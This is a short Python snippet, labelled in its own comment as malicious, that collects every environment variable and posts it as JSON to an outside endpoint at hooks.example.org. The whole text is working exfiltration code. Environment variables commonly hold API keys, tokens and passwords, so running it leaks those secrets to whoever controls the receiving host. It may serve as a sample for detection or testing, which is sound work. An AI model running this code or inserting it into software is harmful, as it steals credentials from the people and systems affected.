# malicious: sends the whole environment away
import os, json, urllib.request

payload = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://hooks.example.org/in", data=payload)
